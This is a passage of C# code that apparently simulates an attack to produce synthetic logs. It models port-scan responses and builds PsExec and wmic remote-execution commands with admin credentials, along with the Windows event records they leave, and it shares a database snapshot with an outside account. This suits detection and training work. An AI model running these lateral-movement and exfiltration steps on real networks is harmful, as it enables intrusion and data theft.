                    r.WriteStartArray("valuesToAdd"); r.WriteStringValue(outside); r.WriteEndArray();
                }, r => { r.WriteString("dBSnapshotIdentifier", dbSnap); }, readOnly: false, label: _w.CurrentLabel);
            });
        }
        _t = Math.Max(saved, _t);
    }

    /// <summary>What a connect scan sees: open ports answer (a short exchange), closed ones refuse, absent
    /// addresses do not answer.</summary>
    private Flow ScanResult(string ip, int port)
    {
        var h = _co.ByIp(ip);
        bool nas = ip == Company.BackupTargetIp;
        if (h is null && !nas) return Flow.NoAnswer;
        bool open = nas ? port is 22 or 80 or 445
            : port switch
            {
                135 or 445 => true,
                5985 or 3389 => h!.Role != HostRole.Workstation,
                1433 => h!.Role == HostRole.DatabaseServer,
                80 => h!.Role == HostRole.WebServer,
                _ => false,
            };
        return open ? new Flow { OrigBytes = 0, RespBytes = port == 22 ? 41 : 0, DurationMs = _r.Range(1, 6), State = "RSTO" } : Flow.Refused;
    }

    private Proc PsExec(Proc from, string psexec, Host target, Account admin, string password)
    {
        var web = _web;
        var px = Run(from, $"{psexec} \\\\{target.Name} -accepteula -s -u CORP\\{admin.Name} -p {password} cmd.exe", image: psexec, integrity: "System");
        long t = _t;
        _w.Explicit4648(t + 60, px, admin, target.Name, target.Name);
        _w.Net(t + 90, px, target.Ip, 445);
        var l = _w.Logon4624(t + 120, target, admin, 3, web.Ip, web.Name, "NTLM");
        _w.Share5140(t + 150, target, l, "ADMIN$", "\\??\\C:\\Windows", web.Ip);
        _w.Share5145(t + 160, target, l, "ADMIN$", "\\??\\C:\\Windows", "PSEXESVC.exe", "0x2", web.Ip);
        _w.Share5145(t + 200, target, l, "IPC$", "", "svcctl", "0x12019f", web.Ip);
        _w.Service7045(t + 230, target, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe");
        var svc = _w.Spawn(t + 260, target.Services, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", integrity: "System");
        return _w.Spawn(t + 330, svc, Cmd, "\"cmd.exe\" ", integrity: "System", cwd: "C:\\Windows\\system32\\");
    }

    private void Wmi(Proc from, Host target, Account admin, string password, string command)
    {
        var web = _web;
        var wm = Run(from, $"wmic /node:{target.Name} /user:CORP\\{admin.Name} /password:{password} process call create \"{command}\"", integrity: "System");
        long t = _t;
        _w.Explicit4648(t + 50, wm, admin, target.Name, target.Name);
        _w.Net(t + 70, wm, target.Ip, 135);
        var l = _w.Logon4624(t + 110, target, admin, 3, web.Ip, web.Name, "NTLM");
        _w.Spawn(t + 260, target.WmiPrvSE, Cmd, command, logon: l, integrity: "High");
        _w.Logoff4634(t + 1_500, target, l);
    }
}
